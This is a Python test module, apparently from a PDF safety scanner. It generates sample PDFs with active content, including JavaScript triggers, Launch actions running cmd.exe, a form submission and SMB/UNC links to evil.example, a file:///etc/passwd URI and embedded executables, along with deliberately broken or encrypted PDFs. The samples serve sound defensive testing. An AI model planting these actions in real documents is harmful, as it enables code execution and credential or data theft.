"""Of the corpus: PDFs that act, and PDFs that are broken."""

import random

import pikepdf

from desk.safety import kinds
from tests.desk.papers import pdf

PDF, TEXT = kinds.PDF.media_type, kinds.TEXT.media_type
Name, Dictionary, Array = pikepdf.Name, pikepdf.Dictionary, pikepdf.Array


def acting_papers():
    """PDFs that do something when they are opened, closed, printed or touched."""
    script = {"/S": "/JavaScript", "/JS": "app.alert('canary')"}
    for event in ("/WC", "/WS", "/DS", "/WP", "/DP"):
        yield (
            f"on {event[1:]}.pdf",
            pdf(
                change=lambda paper, event=event: paper.Root.update({"/AA": _made({event: script})})
            ),
            PDF,
        )
    yield "on opening.pdf", pdf(change=lambda paper: _root(paper, "/OpenAction", script)), PDF
    yield (
        "on a page.pdf",
        pdf(change=lambda paper: paper.pages[0].obj.__setitem__("/AA", _made({"/O": script}))),
        PDF,
    )
    yield "named.pdf", pdf(change=_named_script), PDF
    for action in (
        script, {"/S": "/Launch", "/F": "cmd.exe"}, {"/S": "/Launch", "/Win": {"/F": "cmd.exe", "/P": "/c calc"}},
        {"/S": "/SubmitForm", "/F": "http://evil.example/"}, {"/S": "/ImportData", "/F": "x.fdf"},
        {"/S": "/GoToR", "/F": "\\\\evil.example\\share\\x.pdf"}, {"/S": "/GoToE", "/F": "x"},
        {"/S": "/URI", "/URI": "javascript:alert(1)"}, {"/S": "/URI", "/URI": "file:///etc/passwd"},
        {"/S": "/URI", "/URI": "smb://evil.example/x"}, {"/S": "/Movie"}, {"/S": "/Sound"},
        {"/S": "/Rendition", "/JS": "x"},
        {"/S": "/Hide", "/T": "x"}, {"/S": "/Named", "/N": "/Print"}, {"/S": "/RichMediaExecute"}, {"/S": "/ResetForm"},
    ):  # fmt: skip
        for how in (annotated, _opening, _chained):
            yield f"{how.__name__.strip('_')} {action['/S'][1:]}.pdf", pdf(change=how(action)), PDF
    for kind in ("/FileAttachment", "/RichMedia", "/Screen", "/Movie", "/Sound", "/3D"):
        yield f"annotation {kind[1:]}.pdf", pdf(change=_annotation(kind)), PDF
    yield "embedded.pdf", pdf(change=_embedded), PDF
    yield (
        "associated.pdf",
        pdf(change=lambda paper: _root(paper, "/AF", [{"/Type": "/Filespec", "/F": "x.exe"}])),
        PDF,
    )
    yield (
        "portfolio.pdf",
        pdf(change=lambda paper: _root(paper, "/Collection", {"/View": "/D"})),
        PDF,
    )
    yield (
        "xfa.pdf",
        pdf(change=lambda paper: _root(paper, "/AcroForm", {"/XFA": "<xdp:xdp/>", "/Fields": []})),
        PDF,
    )
    yield "calculating.pdf", pdf(change=_calculating), PDF
    yield (
        "info.pdf",
        pdf(change=lambda paper: paper.docinfo.__setitem__("/Author", "canary <script>")),
        PDF,
    )
    yield (
        "hex name.pdf",
        pdf(static_id=True).replace(
            b"/Type /Catalog", b"/Open#41ction << /S /Java#53cript /J#53 (canary) >> /Type /Catalog"
        ),
        (PDF, "damaged"),
    )


def _root(paper, key, value):
    paper.Root[key] = _made(value)


def _made(value):
    if isinstance(value, dict):
        return Dictionary({key: _made(each) for key, each in value.items()})
    if isinstance(value, list):
        return Array([_made(each) for each in value])
    return Name(value) if isinstance(value, str) and value.startswith("/") else value


def _opening(action):
    return lambda paper: _root(paper, "/OpenAction", action)


def _chained(action):
    """Behind a harmless step, and in an object of its own."""

    def change(paper):
        hidden = paper.make_indirect(_made(action))
        first = Dictionary(
            S=Name.GoTo, D=Array([paper.pages[0].obj, Name.Fit]), Next=Array([hidden])
        )
        _annotate(paper, {"/Subtype": "/Link", "/A": first})

    return change


def annotated(action):
    return lambda paper: _annotate(paper, {"/Subtype": "/Link", "/A": action})


def _annotation(kind):
    return lambda paper: _annotate(
        paper, {"/Subtype": kind, "/FS": {"/Type": "/Filespec", "/F": "canary.exe"}}
    )


def _annotate(paper, what):
    made = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 100, 100]))
    for key, value in what.items():
        made[key] = value if isinstance(value, pikepdf.Object) else _made(value)
    paper.pages[0].obj["/Annots"] = Array([paper.make_indirect(made)])


def _named_script(paper):
    code = _made({"/S": "/JavaScript", "/JS": "app.alert('canary')"})
    paper.Root["/Names"] = Dictionary(
        JavaScript=Dictionary(Names=Array(["x", paper.make_indirect(code)]))
    )


def _embedded(paper):
    paper.attachments["canary.exe"] = pikepdf.AttachedFileSpec(
        paper, b"MZ canary", filename="canary.exe"
    )


def _calculating(paper):
    field = _made(
        {"/FT": "/Tx", "/T": "x", "/AA": {"/C": {"/S": "/JavaScript", "/JS": "canary()"}}}
    )
    paper.Root["/AcroForm"] = Dictionary(Fields=Array([paper.make_indirect(field)]), CO=Array([]))


def broken_papers():
    whole = pdf(pages=3)
    yield "locked.pdf", pdf(encryption=pikepdf.Encryption(user="secret", owner="boss")), "encrypted"
    yield (
        "locked-old.pdf",
        pdf(encryption=pikepdf.Encryption(user="x", owner="y", R=4)),
        "encrypted",
    )
    for share in (1, 10, 30, 50, 90):
        yield f"cut at {share}.pdf", whole[: len(whole) * share // 100], ("damaged", PDF)
    yield "head only.pdf", b"%PDF-1.7\n", "damaged"
    yield (
        "no pages.pdf",
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj "
        b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>",
        "damaged",
    )
    yield (
        "circle.pdf",
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj "
        b"2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\ntrailer<</Root 1 0 R>>",
        ("damaged", PDF),
    )
    yield "self.pdf", b"%PDF-1.4\n1 0 obj 1 0 R endobj\ntrailer<</Root 1 0 R>>", "damaged"
    rnd = random.Random(7)
    for number in range(12):
        bad = bytearray(whole)
        for _ in range(40):
            bad[rnd.randrange(len(bad))] = rnd.randrange(256)
        yield (
            f"bitten {number}.pdf",
            bytes(bad),
            (PDF, "damaged", "bomb", "encrypted", "html", "not-at-start", "not-text", TEXT),
        )
    yield "noise.pdf", b"%PDF-1.7\n" + rnd.randbytes(20_000), "damaged"
    yield (
        "deep.pdf",
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/X "
        + b"[" * 20_000
        + b"]" * 20_000
        + b">>endobj\ntrailer<</Root 1 0 R>>",
        ("damaged", "bomb", "failed"),
    )
